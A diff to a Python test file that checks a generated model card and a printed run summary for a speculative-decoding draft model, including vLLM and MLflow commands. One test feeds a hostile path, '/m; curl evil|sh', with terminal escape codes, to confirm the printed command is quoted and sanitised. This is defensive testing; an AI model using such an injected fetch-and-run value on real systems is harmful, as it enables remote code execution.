@@ -1,14 +1,20 @@
-"""The model card: a header that the Hub reads, the measured numbers, and commands that engines take."""
+"""The model card and the summary: the measured numbers, and commands that a shell and engines take."""
 
 from __future__ import annotations
 
 import json
 import re
+import shlex
 import subprocess
+import sys
+from importlib.metadata import version
 
+import pytest
 import yaml
 from huggingface_hub import ModelCard
-from report_inputs import Json
+from report_inputs import Json, make_training
+
+from draft_model.evaluation.card import print_summary
 
 
 def _header(markdown: str) -> Json:
@@ -47,10 +53,13 @@ def test_the_hubs_own_code_reads_the_card(card, training, evaluation, dataset):
 
 def test_the_card_says_the_measured_numbers(card, training, evaluation, dataset):
     markdown = card(training, evaluation, dataset)
-    assert "| Tokens per target pass (mean acceptance length) | 1.91 | 1.03 | 1.00 |" in markdown
-    assert "| Target passes per token | 0.52 | 0.97 | 1.00 |" in markdown
-    assert "9,631 tokens over 40 prompts were compared, with 1 place" in markdown
-    assert "No speed-up is claimed" in markdown
+    assert "| Tokens per target pass (mean acceptance length) | 1.91 | 1.03 |" in markdown
+    assert "| Passes that accepted at least 2 of the proposed tokens | 26.1% | 0.1% |" in markdown
+    assert "9,631 tokens were compared, with 1 ties" in markdown
+    assert "vLLM 0.32.0 in float32 on Intel(R) Xeon(R)" in markdown
+    assert "| 4 | 310.0 | 365.8 | 1.18 |" in markdown
+    evaluation["untrained"] = None
+    assert "| 1.91 | not measured |" in card(training, evaluation, dataset)
     evaluation["lossless"]["identical"] = False
     assert "**The replies differ" in card(training, evaluation, dataset)
 
@@ -76,6 +85,38 @@ def test_a_target_that_is_no_hub_model_is_left_to_the_reader(card, training, eva
     training["target"]["source"] = "s3://models/my target"
     markdown = card(training, evaluation, dataset)
     assert "base_model" not in _header(markdown)
-    assert "`TARGET` is the path of the target model, which was imported from s3://models/my target." in markdown
+    assert "`TARGET` is the path of the target, imported from s3://models/my target." in markdown
     vllm, _ = commands_of(markdown)
     assert vllm[:4] == ["vllm", "serve", "TARGET", "--speculative-config"]
+
+
+@pytest.fixture
+def printed(tmp_path, capsys, monkeypatch):
+    """Prints the summary of a run that measured nothing; returns what was printed."""
+
+    def of(tracking="", **training):
+        (tmp_path / "training.json").write_text(json.dumps({**make_training(), **training}), encoding="utf-8")
+        monkeypatch.setenv("MLFLOW_TRACKING_URI", tracking)
+        print_summary(tmp_path, tmp_path)
+        return capsys.readouterr().out
+
+    return of
+
+
+def test_a_local_store_is_shown_by_a_command_that_needs_nothing_installed(printed):
+    (line,) = (line for line in printed("sqlite:////runs/mlflow.db").splitlines() if "see the curves" in line)
+    install, fill, show = line.removeprefix("  see the curves").strip().split(" && ")
+    assert install == f"{sys.executable} -m venv .venv-mlflow"
+    assert fill == f".venv-mlflow/bin/pip install mlflow=={version('mlflow-skinny')}"
+    assert show == ".venv-mlflow/bin/mlflow ui --backend-store-uri sqlite:////runs/mlflow.db"
+    assert "mlflow" not in printed("http://127.0.0.1:5000")
+
+
+def test_printed_commands_are_quoted_and_nothing_reaches_the_terminal_as_code(printed):
+    source = "/m; curl evil|sh #[/x][red]\x1b[31m"
+    given = {**make_training()["parameters"], "huggingface_id": "", "pytorch_model_path": source}
+    out = printed(target={**make_training()["target"], "source": source}, parameters=given)
+    assert "\x1b" not in out
+    (line,) = (line for line in out.splitlines() if "serve it in vLLM" in line)
+    words = shlex.split(line.partition("vLLM")[2])
+    assert words[:3] == ["vllm", "serve", "/m; curl evil|sh #[/x][red]\ufffd[31m"]
